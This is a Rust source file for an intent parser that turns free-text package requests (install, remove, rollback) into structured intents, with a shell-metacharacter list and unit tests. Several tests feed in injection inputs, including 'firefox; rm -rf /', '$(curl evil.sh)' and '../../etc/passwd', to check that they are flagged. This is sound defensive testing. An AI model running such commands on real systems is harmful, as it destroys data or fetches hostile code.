//! Intent extraction: free text in, structured [`Intent`] out.
//!
//! Rules are an ordered, declarative table of (matcher, kind, extractor)
//! evaluated by one loop. Among matching rules the highest precedence tier
//! wins, then the longest matched keyword, then declaration order.
//! Extraction never fails: text nothing matches becomes `Unknown` with
//! confidence 0.

use crate::similarity::{edit_distance, similarity};
use once_cell::sync::Lazy;
use regex::Regex;
use serde::Serialize;
use std::collections::BTreeMap;
use tracing::{debug, warn};

/// Modifier set when the text asks for a preview only
pub const MOD_DRY_RUN: &str = "dry_run";
/// Modifier naming the install method (`declarative`, `home_manager`, `imperative`)
pub const MOD_METHOD: &str = "method";
/// Modifier naming an explicit generation number
pub const MOD_GENERATION: &str = "generation";
/// Modifier set when shell metacharacters trail the extracted target
pub const MOD_UNSAFE_INPUT: &str = "unsafe_input";
/// Modifier listing further targets named after the first, comma separated
pub const MOD_EXTRA_TARGETS: &str = "extra_targets";

/// What the user wants to do
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum IntentKind {
    Install,
    Remove,
    Update,
    Search,
    ListInstalled,
    Rollback,
    Unknown,
}

impl IntentKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            IntentKind::Install => "install",
            IntentKind::Remove => "remove",
            IntentKind::Update => "update",
            IntentKind::Search => "search",
            IntentKind::ListInstalled => "list_installed",
            IntentKind::Rollback => "rollback",
            IntentKind::Unknown => "unknown",
        }
    }

    /// Whether carrying this out changes system state
    pub fn is_mutating(&self) -> bool {
        matches!(
            self,
            IntentKind::Install | IntentKind::Remove | IntentKind::Update | IntentKind::Rollback
        )
    }

    /// Whether the intent is meaningless without a target
    pub fn requires_target(&self) -> bool {
        matches!(
            self,
            IntentKind::Install | IntentKind::Remove | IntentKind::Search
        )
    }
}

impl std::fmt::Display for IntentKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A structured request. Immutable once created.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Intent {
    kind: IntentKind,
    target: Option<String>,
    modifiers: BTreeMap<String, String>,
    confidence: f32,
    raw_text: String,
}

impl Intent {
    pub fn new(
        kind: IntentKind,
        target: Option<String>,
        modifiers: BTreeMap<String, String>,
        confidence: f32,
        raw_text: &str,
    ) -> Self {
        Self {
            kind,
            target,
            modifiers,
            confidence: confidence.clamp(0.0, 1.0),
            raw_text: raw_text.to_string(),
        }
    }

    /// The intent for text nothing matched
    pub fn unknown(raw_text: &str) -> Self {
        Self::new(IntentKind::Unknown, None, BTreeMap::new(), 0.0, raw_text)
    }

    pub fn kind(&self) -> IntentKind {
        self.kind
    }

    pub fn target(&self) -> Option<&str> {
        self.target.as_deref()
    }

    pub fn modifiers(&self) -> &BTreeMap<String, String> {
        &self.modifiers
    }

    pub fn modifier(&self, key: &str) -> Option<&str> {
        self.modifiers.get(key).map(String::as_str)
    }

    pub fn confidence(&self) -> f32 {
        self.confidence
    }

    pub fn raw_text(&self) -> &str {
        &self.raw_text
    }

    pub fn is_dry_run(&self) -> bool {
        self.modifier(MOD_DRY_RUN) == Some("true")
    }

    pub fn is_unsafe(&self) -> bool {
        self.modifier(MOD_UNSAFE_INPUT) == Some("true")
    }

    /// Targets named after the first one ("firefox, vim")
    pub fn extra_targets(&self) -> Vec<&str> {
        self.modifier(MOD_EXTRA_TARGETS)
            .map(|list| list.split(',').filter(|t| !t.is_empty()).collect())
            .unwrap_or_default()
    }

    /// A copy of this intent with one more modifier; the original is untouched
    pub fn with_modifier(&self, key: &str, value: &str) -> Self {
        let mut next = self.clone();
        next.modifiers.insert(key.to_string(), value.to_string());
        next
    }
}

// ============================================================================
// Rule table
// ============================================================================

/// How a rule recognises text
enum Matcher {
    /// Regex with a `kw` group (the keyword literal) and optional `rest` group
    Pattern(Regex),
    /// Any of these phrases as whole words
    Keywords(&'static [&'static str]),
    /// First word is a near miss (1-2 edits) of one of these verbs
    FuzzyVerb(&'static [&'static str]),
    /// A lone package-looking word
    LoneToken,
}

/// What a matcher found
struct RuleMatch {
    keyword: String,
    rest: String,
    span: String,
    /// Similarity of the keyword to the canonical verb (fuzzy matches only)
    similarity: Option<f32>,
}

impl Matcher {
    fn find(&self, text: &str) -> Option<RuleMatch> {
        match self {
            Matcher::Pattern(re) => {
                let caps = re.captures(text)?;
                let keyword = caps.name("kw")?.as_str().to_string();
                let rest = caps
                    .name("rest")
                    .map(|m| m.as_str().to_string())
                    .unwrap_or_default();
                let span = caps.get(0)?.as_str().to_string();
                Some(RuleMatch {
                    keyword,
                    rest,
                    span,
                    similarity: None,
                })
            }
            Matcher::Keywords(phrases) => {
                let padded = format!(" {} ", text);
                phrases
                    .iter()
                    .filter(|phrase| padded.contains(&format!(" {} ", phrase)))
                    .max_by_key(|phrase| phrase.len())
                    .map(|phrase| RuleMatch {
                        keyword: phrase.to_string(),
                        rest: String::new(),
                        span: text.to_string(),
                        similarity: None,
                    })
            }
            Matcher::FuzzyVerb(verbs) => {
                let (first, rest) = text.split_once(' ').unwrap_or((text, ""));
                if first.chars().count() < 4 {
                    return None;
                }
                verbs
                    .iter()
                    .filter_map(|verb| {
                        let distance = edit_distance(first, verb);
                        (1..=2).contains(&distance).then(|| similarity(first, verb))
                    })
                    .filter(|s| *s >= 0.6)
                    .fold(None, |best: Option<f32>, s| Some(best.map_or(s, |b| b.max(s))))
                    .map(|s| RuleMatch {
                        keyword: first.to_string(),
                        rest: rest.to_string(),
                        span: text.to_string(),
                        similarity: Some(s),
                    })
            }
            Matcher::LoneToken => LONE_TOKEN.is_match(text).then(|| RuleMatch {
                keyword: String::new(),
                rest: text.to_string(),
                span: text.to_string(),
                similarity: None,
            }),
        }
    }
}

/// Result of running a rule's extractor
struct Extracted {
    target: Option<String>,
    modifiers: BTreeMap<String, String>,
    confidence: f32,
}

type ExtractFn = fn(&Rule, &RuleMatch) -> Extracted;

struct Rule {
    name: &'static str,
    tier: u8,
    kind: IntentKind,
    matcher: Matcher,
    /// Keywords that count as an exact match (confidence 1.0)
    canonical: &'static [&'static str],
    /// Confidence for a non-canonical keyword of this rule
    alias_confidence: f32,
    extract: ExtractFn,
}

impl Rule {
    fn keyword_confidence(&self, m: &RuleMatch) -> f32 {
        if let Some(s) = m.similarity {
            return 0.6 + 0.3 * s;
        }
        if self.canonical.contains(&m.keyword.as_str()) {
            1.0
        } else {
            self.alias_confidence
        }
    }
}

const POLITE: &str = r"(?:(?:please|can you|could you|would you|kindly)\s+)?";

fn pattern(body: &str) -> Matcher {
    let source = format!("^{}{}", POLITE, body);
    Matcher::Pattern(Regex::new(&source).expect("intent rule regex is valid"))
}

static RULES: Lazy<Vec<Rule>> = Lazy::new(|| {
    vec![
        Rule {
            name: "rollback",
            tier: 5,
            kind: IntentKind::Rollback,
            matcher: pattern(
                r"(?P<kw>rollback|roll back|revert|undo|go back to generation|go back|switch back|switch to generation)\b(?P<rest>.*)$",
            ),
            canonical: &["rollback", "roll back"],
            alias_confidence: 0.9,
            extract: extract_rollback,
        },
        Rule {
            name: "list_installed",
            tier: 5,
            kind: IntentKind::ListInstalled,
            matcher: Matcher::Keywords(&[
                "what's installed",
                "what is installed",
                "whats installed",
                "what packages are installed",
                "what do i have installed",
                "list installed",
                "list installed packages",
                "show installed packages",
                "installed packages",
                "list my packages",
                "show my packages",
                "list packages",
            ]),
            canonical: &[],
            alias_confidence: 0.9,
            extract: extract_listing,
        },
        Rule {
            name: "update",
            tier: 4,
            kind: IntentKind::Update,
            matcher: pattern(r"(?P<kw>update|upgrade|refresh)\b(?P<rest>.*)$"),
            canonical: &["update", "upgrade"],
            alias_confidence: 0.8,
            extract: extract_update,
        },
        Rule {
            name: "remove",
            tier: 3,
            kind: IntentKind::Remove,
            matcher: pattern(r"(?P<kw>remove|uninstall|delete|get rid of|purge)\s+(?P<rest>.+)$"),
            canonical: &["remove", "uninstall"],
            alias_confidence: 0.9,
            extract: extract_target,
        },
        Rule {
            name: "install",
            tier: 3,
            kind: IntentKind::Install,
            matcher: pattern(
                r"(?:i\s+(?:want|need|would like)\s+to\s+)?(?P<kw>install|add|get|set up|setup)\s+(?P<rest>.+)$",
            ),
            canonical: &["install"],
            alias_confidence: 0.9,
            extract: extract_target,
        },
        Rule {
            name: "search",
            tier: 3,
            kind: IntentKind::Search,
            matcher: pattern(
                r"(?P<kw>search for|search|find me|find|look for|look up|is there|are there)\s+(?P<rest>.+)$",
            ),
            canonical: &["search", "search for"],
            alias_confidence: 0.9,
            extract: extract_target,
        },
        Rule {
            name: "install_want",
            tier: 2,
            kind: IntentKind::Install,
            matcher: Matcher::Pattern(
                Regex::new(r"^i\s+(?P<kw>need|want|would like)\s+(?P<rest>.+)$")
                    .expect("intent rule regex is valid"),
            ),
            canonical: &[],
            alias_confidence: 0.7,
            extract: extract_target,
        },
        Rule {
            name: "fuzzy_install",
            tier: 1,
            kind: IntentKind::Install,
            matcher: Matcher::FuzzyVerb(&["install"]),
            canonical: &[],
            alias_confidence: 0.6,
            extract: extract_target,
        },
        Rule {
            name: "fuzzy_remove",
            tier: 1,
            kind: IntentKind::Remove,
            matcher: Matcher::FuzzyVerb(&["remove", "uninstall"]),
            canonical: &[],
            alias_confidence: 0.6,
            extract: extract_target,
        },
        Rule {
            name: "fuzzy_search",
            tier: 1,
            kind: IntentKind::Search,
            matcher: Matcher::FuzzyVerb(&["search"]),
            canonical: &[],
            alias_confidence: 0.6,
            extract: extract_target,
        },
        Rule {
            name: "fuzzy_update",
            tier: 1,
            kind: IntentKind::Update,
            matcher: Matcher::FuzzyVerb(&["update", "upgrade"]),
            canonical: &[],
            alias_confidence: 0.6,
            extract: extract_update,
        },
        Rule {
            name: "fuzzy_rollback",
            tier: 1,
            kind: IntentKind::Rollback,
            matcher: Matcher::FuzzyVerb(&["rollback"]),
            canonical: &[],
            alias_confidence: 0.6,
            extract: extract_rollback,
        },
        Rule {
            name: "lone_token",
            tier: 0,
            kind: IntentKind::Search,
            matcher: Matcher::LoneToken,
            canonical: &[],
            alias_confidence: 0.3,
            extract: extract_target,
        },
    ]
});

// ============================================================================
// Secondary sub-patterns
// ============================================================================

static LONE_TOKEN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[a-z0-9][a-z0-9._+-]*$").expect("valid regex"));

static DRY_RUN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?:^|\s)(?:--dry-run|dry[ -]run|--preview|preview only|preview|just show)(?:\s|$)")
        .expect("valid regex")
});

static METHODS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    vec![
        (
            "declarative",
            Regex::new(r"(?:^|\s)(?:--system|system[- ]?wide|globally|declaratively|for all users)(?:\s|$)")
                .expect("valid regex"),
        ),
        (
            "home_manager",
            Regex::new(r"(?:^|\s)(?:--home|with home[- ]manager|home[- ]manager|for my user only)(?:\s|$)")
                .expect("valid regex"),
        ),
        (
            "imperative",
            Regex::new(r"(?:^|\s)(?:--profile|--user|imperatively|with nix profile)(?:\s|$)")
                .expect("valid regex"),
        ),
    ]
});

static GENERATION: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\bgeneration\s+#?(\d{1,9})\b").expect("valid regex"));

/// Characters that can legitimately appear in a spoken target
fn is_target_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, ' ' | '.' | '_' | '-' | '+' | '\'')
}

/// Characters that mean someone is trying to talk to a shell
pub const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '>', '<', '\n', '\r'];

/// Words that carry no package meaning
const FILLER_WORDS: &[&str] = &[
    "a", "an", "the", "some", "me", "please", "package", "packages", "app", "application",
    "program", "called", "named", "now", "for", "my", "i", "to", "want", "need", "it",
];

/// Words that mean "the whole system" for updates
const WHOLE_SYSTEM_WORDS: &[&str] = &["system", "nixos", "everything", "all", "whole", "computer"];

fn detect_modifiers(span: &str) -> BTreeMap<String, String> {
    let mut modifiers = BTreeMap::new();
    if DRY_RUN.is_match(span) {
        modifiers.insert(MOD_DRY_RUN.to_string(), "true".to_string());
    }
    if let Some((method, _)) = METHODS.iter().find(|(_, re)| re.is_match(span)) {
        modifiers.insert(MOD_METHOD.to_string(), method.to_string());
    }
    modifiers
}

fn strip_modifier_phrases(text: &str) -> String {
    let mut out = DRY_RUN.replace_all(text, " ").into_owned();
    for (_, re) in METHODS.iter() {
        out = re.replace_all(&out, " ").into_owned();
    }
    out
}

/// Target text split out of the rest of a request
#[derive(Debug, Default, PartialEq)]
struct TargetSplit {
    target: Option<String>,
    /// Further targets found after the first
    extra: Vec<String>,
    /// Shell metacharacters trailed the target
    unsafe_input: bool,
}

/// Filler-free words of one segment, if any are left
fn target_words(segment: &str) -> Option<String> {
    let words: Vec<&str> = segment
        .split_whitespace()
        .map(|w| w.trim_matches('\''))
        .filter(|w| !w.is_empty() && !FILLER_WORDS.contains(w))
        .collect();
    (!words.is_empty()).then(|| words.join(" "))
}

/// Isolate the target words from `rest`. The target ends at the first
/// character a package name cannot contain; what follows is either unsafe
/// input or more targets.
fn clean_target(rest: &str) -> TargetSplit {
    let rest = strip_modifier_phrases(rest);
    let cut = rest.find(|c: char| !is_target_char(c)).unwrap_or(rest.len());
    let (kept, tail) = rest.split_at(cut);
    let unsafe_input = tail.contains(SHELL_METACHARACTERS) || rest.contains("..");

    let target = target_words(kept);
    let mut extra: Vec<String> = Vec::new();
    if !unsafe_input {
        for word in tail.split(|c: char| !is_target_char(c)).filter_map(target_words) {
            if target.as_deref() != Some(word.as_str()) && !extra.contains(&word) {
                extra.push(word);
            }
        }
    }
    TargetSplit {
        target,
        extra,
        unsafe_input,
    }
}

fn extract_target(rule: &Rule, m: &RuleMatch) -> Extracted {
    let mut modifiers = detect_modifiers(&m.span);
    let split = clean_target(&m.rest);
    if split.unsafe_input {
        modifiers.insert(MOD_UNSAFE_INPUT.to_string(), "true".to_string());
    }
    if !split.extra.is_empty() {
        modifiers.insert(MOD_EXTRA_TARGETS.to_string(), split.extra.join(","));
    }
    Extracted {
        target: split.target,
        modifiers,
        confidence: rule.keyword_confidence(m),
    }
}

fn extract_update(rule: &Rule, m: &RuleMatch) -> Extracted {
    let mut extracted = extract_target(rule, m);
    if let Some(target) = &extracted.target {
        if target
            .split_whitespace()
            .all(|w| WHOLE_SYSTEM_WORDS.contains(&w))
        {
            extracted.target = None;
        }
    }
    extracted
}

fn extract_rollback(rule: &Rule, m: &RuleMatch) -> Extracted {
    let mut modifiers = detect_modifiers(&m.span);
    if let Some(caps) = GENERATION.captures(&m.span) {
        modifiers.insert(MOD_GENERATION.to_string(), caps[1].to_string());
    }
    if clean_target(&m.rest).unsafe_input {
        modifiers.insert(MOD_UNSAFE_INPUT.to_string(), "true".to_string());
    }
    Extracted {
        target: None,
        modifiers,
        confidence: rule.keyword_confidence(m),
    }
}

fn extract_listing(rule: &Rule, m: &RuleMatch) -> Extracted {
    let confidence = if m.keyword.contains("installed") {
        1.0
    } else {
        rule.alias_confidence
    };
    Extracted {
        target: None,
        modifiers: detect_modifiers(&m.span),
        confidence,
    }
}

/// Lowercase, collapse whitespace, drop trailing sentence punctuation
pub fn normalize(raw: &str) -> String {
    let lowered = raw.to_lowercase().replace(['\u{2019}', '\u{2018}'], "'");
    let collapsed = lowered.split_whitespace().collect::<Vec<_>>().join(" ");
    collapsed
        .trim_end_matches(|c: char| matches!(c, '.' | '!' | '?' | ','))
        .trim()
        .to_string()
}

/// Extract an intent from free text. Pure; never fails.
pub fn extract(raw: &str) -> Intent {
    let text = normalize(raw);
    if text.is_empty() {
        return Intent::unknown(raw);
    }

    let mut best: Option<((u8, usize), &Rule, RuleMatch)> = None;
    for rule in RULES.iter() {
        let Some(m) = rule.matcher.find(&text) else {
            continue;
        };
        let rank = (rule.tier, m.keyword.len());
        // Strictly greater keeps the earlier rule on a full tie
        if best.as_ref().map_or(true, |(r, _, _)| rank > *r) {
            best = Some((rank, rule, m));
        }
    }

    let Some((_, rule, m)) = best else {
        debug!(text = %text, "No intent rule matched");
        return Intent::unknown(raw);
    };

    let extracted = (rule.extract)(rule, &m);
    if extracted.modifiers.contains_key(MOD_UNSAFE_INPUT) {
        warn!(
            target: "nixling::security",
            rule = rule.name,
            "Shell metacharacters after the extracted target"
        );
    }
    debug!(
        rule = rule.name,
        kind = %rule.kind,
        target = ?extracted.target,
        confidence = extracted.confidence,
        "Intent extracted"
    );

    Intent::new(
        rule.kind,
        extracted.target,
        extracted.modifiers,
        extracted.confidence,
        raw,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_install_exact_keyword() {
        let intent = extract("install firefox");
        assert_eq!(intent.kind(), IntentKind::Install);
        assert_eq!(intent.target(), Some("firefox"));
        assert!(intent.confidence() >= 0.9);
        assert_eq!(intent.raw_text(), "install firefox");
    }

    #[test]
    fn test_polite_install_with_filler() {
        let intent = extract("Could you install the GIMP package, please?");
        assert_eq!(intent.kind(), IntentKind::Install);
        assert_eq!(intent.target(), Some("gimp"));
    }

    #[test]
    fn test_injection_isolates_target_and_flags() {
        let intent = extract("install firefox; rm -rf /");
        assert_eq!(intent.kind(), IntentKind::Install);
        assert_eq!(intent.target(), Some("firefox"));
        assert!(intent.is_unsafe());
    }

    #[test]
    fn test_listed_targets_kept() {
        let intent = extract("install firefox, vim");
        assert_eq!(intent.target(), Some("firefox"));
        assert_eq!(intent.extra_targets(), vec!["vim"]);
        assert!(!intent.is_unsafe());

        let intent = extract("remove git, htop, git");
        assert_eq!(intent.target(), Some("git"));
        assert_eq!(intent.extra_targets(), vec!["htop"]);

        let intent = extract("Could you install the GIMP package, please?");
        assert!(intent.extra_targets().is_empty());
    }

    #[test]
    fn test_command_substitution_flagged() {
        let intent = extract("install $(curl evil.sh)");
        assert!(intent.is_unsafe());
        assert_eq!(intent.target(), None);
    }

    #[test]
    fn test_traversal_flagged() {
        let intent = extract("install ../../etc/passwd");
        assert!(intent.is_unsafe());
    }

    #[test]
    fn test_list_installed() {
        let intent = extract("what's installed?");
        assert_eq!(intent.kind(), IntentKind::ListInstalled);
        assert_eq!(intent.confidence(), 1.0);
        assert_eq!(intent.target(), None);
    }

    #[test]
    fn test_remove_alias_prefers_longest_keyword() {
        let intent = extract("get rid of vlc");
        assert_eq!(intent.kind(), IntentKind::Remove);
        assert_eq!(intent.target(), Some("vlc"));
        assert!((intent.confidence() - 0.9).abs() < f32::EPSILON);
    }

    #[test]
    fn test_update_whole_system_has_no_target() {
        let intent = extract("update my system");
        assert_eq!(intent.kind(), IntentKind::Update);
        assert_eq!(intent.target(), None);

        let intent = extract("upgrade firefox");
        assert_eq!(intent.target(), Some("firefox"));
    }

    #[test]
    fn test_rollback_with_generation() {
        let intent = extract("switch to generation 42");
        assert_eq!(intent.kind(), IntentKind::Rollback);
        assert_eq!(intent.modifier(MOD_GENERATION), Some("42"));

        let intent = extract("rollback");
        assert_eq!(intent.kind(), IntentKind::Rollback);
        assert_eq!(intent.confidence(), 1.0);
        assert_eq!(intent.modifier(MOD_GENERATION), None);
    }

    #[test]
    fn test_modifiers_extracted_and_stripped() {
        let intent = extract("install htop system-wide --dry-run");
        assert_eq!(intent.target(), Some("htop"));
        assert!(intent.is_dry_run());
        assert_eq!(intent.modifier(MOD_METHOD), Some("declarative"));

        let intent = extract("install ripgrep with home-manager");
        assert_eq!(intent.target(), Some("ripgrep"));
        assert_eq!(intent.modifier(MOD_METHOD), Some("home_manager"));
    }

    #[test]
    fn test_search_multi_word_target() {
        let intent = extract("search for a photo editor");
        assert_eq!(intent.kind(), IntentKind::Search);
        assert_eq!(intent.target(), Some("photo editor"));
        assert_eq!(intent.confidence(), 1.0);
    }

    #[test]
    fn test_fuzzy_verb_scaled_confidence() {
        let intent = extract("instal firefox");
        assert_eq!(intent.kind(), IntentKind::Install);
        assert_eq!(intent.target(), Some("firefox"));
        assert!(intent.confidence() >= 0.6 && intent.confidence() <= 0.9);
    }

    #[test]
    fn test_lone_token_fallback() {
        let intent = extract("firefox");
        assert_eq!(intent.kind(), IntentKind::Search);
        assert!((intent.confidence() - 0.3).abs() < f32::EPSILON);
    }

    #[test]
    fn test_unknown_input() {
        for text in ["", "   ", "how are you feeling today"] {
            let intent = extract(text);
            assert_eq!(intent.kind(), IntentKind::Unknown);
            assert_eq!(intent.confidence(), 0.0);
        }
    }

    #[test]
    fn test_extraction_is_pure() {
        assert_eq!(extract("install vim"), extract("install vim"));
    }

    #[test]
    fn test_with_modifier_leaves_original() {
        let intent = extract("rollback");
        let derived = intent.with_modifier(MOD_GENERATION, "7");
        assert_eq!(intent.modifier(MOD_GENERATION), None);
        assert_eq!(derived.modifier(MOD_GENERATION), Some("7"));
    }
}
